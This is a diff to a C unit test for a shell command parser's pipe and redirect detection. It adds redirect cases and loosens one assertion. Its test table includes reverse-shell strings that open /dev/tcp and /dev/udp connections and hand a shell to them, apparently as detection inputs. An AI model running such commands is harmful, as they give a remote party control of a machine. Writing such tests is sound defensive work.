@@ -26,6 +26,9 @@ static const struct {
 	{"0<&9; exec 9<>/dev/tcp/10.0.0.1/1; sh <&9 >&9", "[exec 9<>/dev/tcp/10.0.0.1/1; sh <&9 >&9]"},
 	{"exec 9<>/dev/udp/h/1\ncat <&9 | while read x; do $x; done", "[exec 9<>/dev/udp/h/1\ncat <&9 | while read x; do $x]"},
 	{"echo > /dev/tcp/h/1", ""},
+	{"echo a >> /etc/x; printf b > \"$d/y\" 2>&1; echo c > d; echo e >/dev/null; cat f > /g", "[echo a >> /etc/x][printf b > \"$d/y\" 2>&1]"},
+	{"sudo sh -c 'echo a > /b'", ""},
+	{"echo a | tee b > /c; echo d >/e", "[echo a | tee b > /c][echo d >/e]"},
 	{"", ""},
 };
 
@@ -40,7 +43,7 @@ static void test_cases(void)
 		CHECK_LONG(command_line_parse(&arena, text, &line), COMMAND_DONE);
 		size_t count = command_pipes_find(&arena, text, &line, &pipes);
 		for (size_t k = 0; k < count; k++) {
-			CU_ASSERT(pipes[k].first < pipes[k].last && pipes[k].last < line.count);
+			CU_ASSERT(pipes[k].first <= pipes[k].last && pipes[k].last < line.count);
 			buffer_printf(&out, "[%.*s]", TEXT_ARGS(text_slice(text, pipes[k].begin, pipes[k].end)));
 		}
 		CHECK_TEXT(buffer_view(&out), cases[i].pipes);
